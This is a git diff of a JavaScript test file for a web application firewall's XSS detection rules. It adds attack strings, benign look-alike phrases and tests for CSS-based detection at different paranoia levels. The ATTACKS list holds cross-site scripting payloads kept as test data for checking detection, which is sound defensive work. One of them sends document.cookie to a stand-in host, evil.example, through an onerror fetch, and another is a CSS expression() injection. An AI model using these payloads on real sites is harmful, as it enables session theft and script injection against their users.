@@ -1,6 +1,6 @@
 import { expect } from 'chai';
 import { tokenizeHtml } from '../../../plugins/waf/engine/html-tokenizer.js';
-import { missed, rulesOf, wronglyBlocked } from './helpers.js';
+import { findMissed, listRules, findWronglyBlocked } from './helpers.js';
 
 const ATTACKS = [
   '<script>alert(1)</script>',
@@ -55,6 +55,8 @@ const ATTACKS = [
   '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
   '<math><a xlink:href="//evil.example">x</a>',
   '<img src=x onerror=fetch("//evil.example/"+document.cookie)>',
+  '\'\';!--"<XSS>=&{()}',
+  '<div style="font-family:foo}color=red;">x</div>',
 ];
 
 const LOOK_ALIKES = [
@@ -87,27 +89,36 @@ const LOOK_ALIKES = [
   'Facial expression (happy) poster',
   'data: 2 GB plan',
   'evaluation kit (eval)',
+  'Please confirm (yes/no)',
+  'Medical alert (bracelet)',
 ];
 
 describe('waf xss', () => {
   it('blocks script-capable markup, handlers, script URLs and JS sinks in any encoding', () => {
-    expect(missed(ATTACKS)).to.deep.equal([]);
+    expect(findMissed(ATTACKS)).to.deep.equal([]);
   });
 
   it('passes text with angle brackets, ampersands and harmless markup', () => {
-    expect(wronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
+    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
   });
 
   it('identifies the executing construct', () => {
-    expect(rulesOf('<img src=x onerror=alert(1)>', 'xss')).to.include('xss.event-handler');
-    expect(rulesOf('<script>x</script>', 'xss')).to.include('xss.dangerous-tag');
-    expect(rulesOf('<a href="javascript:x()">', 'xss')).to.include('xss.script-url-attribute');
-    expect(rulesOf('" onfocus="x()', 'xss')).to.include('xss.event-handler');
+    expect(listRules('<img src=x onerror=alert(1)>', 'xss')).to.include('xss.event-handler');
+    expect(listRules('<script>x</script>', 'xss')).to.include('xss.dangerous-tag');
+    expect(listRules('<a href="javascript:x()">', 'xss')).to.include('xss.script-url-attribute');
+    expect(listRules('" onfocus="x()', 'xss')).to.include('xss.event-handler');
+  });
+
+  it('treats well-formed inline CSS as paranoia 2 and obfuscated CSS as an attack', () => {
+    expect(listRules('<span style="color: red; font-family: \'Open Sans\', sans-serif">x</span>', 'xss', 1)).to.deep.equal([]);
+    expect(listRules('<span style="color: red">x</span>', 'xss', 2)).to.include('xss.style-attribute');
+    expect(listRules('<div style="[a]color[b]:[c]red">x</div>', 'xss', 1)).to.include('xss.obfuscated-style');
+    expect(listRules('<div style="x:exp\\72 ession(alert(1))">', 'xss', 1)).to.include('xss.style-injection');
   });
 
   it('flags plain markup only at paranoia 2', () => {
-    expect(rulesOf('<img src="a.png" alt="x">', 'xss', 1)).to.deep.equal([]);
-    expect(rulesOf('<img src="a.png" alt="x">', 'xss', 2)).to.include('xss.html-tag');
+    expect(listRules('<img src="a.png" alt="x">', 'xss', 1)).to.deep.equal([]);
+    expect(listRules('<img src="a.png" alt="x">', 'xss', 2)).to.include('xss.html-tag');
   });
 
   describe('tokenizer', () => {
